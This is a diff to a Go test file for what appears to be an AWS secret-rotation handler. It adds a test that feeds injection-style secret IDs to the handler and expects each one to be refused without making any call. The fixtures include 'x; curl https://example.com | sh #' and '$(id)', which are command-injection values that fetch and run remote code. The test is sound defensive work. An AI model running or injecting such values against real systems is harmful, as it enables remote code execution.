@@ -3,6 +3,7 @@ package rotation_test
 import (
 	"context"
 	"errors"
+	"log/slog"
 	"slices"
 	"strings"
 	"testing"
@@ -66,6 +67,20 @@ func TestEveryStepChecksWhatAWSAsks(t *testing.T) {
 func TestAnEventOfSomebodyElseIsRefused(t *testing.T) {
 	inAccount(t, func(t *testing.T, a *account) {
 		a.mustFail("rotateEverything", rotation.BadEvent, "Step")
+		if len(a.calls) > 0 {
+			t.Errorf("it called %v", a.calls)
+		}
+	})
+}
+
+func TestNothingOfAnEventButANameGetsIntoACommand(t *testing.T) {
+	inAccount(t, func(t *testing.T, a *account) {
+		for _, id := range []string{"x; curl https://example.com | sh #", "$(id)", "x\n--region y", "ü"} {
+			err := a.rotator.Handle(t.Context(), slog.New(slog.DiscardHandler), rotation.Request{Step: rotation.CreateSecret, SecretID: id, VersionID: "new"})
+			if !errors.Is(err, rotation.BadEvent) || strings.Contains(err.Error(), id) {
+				t.Errorf("SecretId %q: %v", id, err)
+			}
+		}
 		if len(a.calls) > 0 {
 			t.Errorf("it called %v", a.calls)
 		}
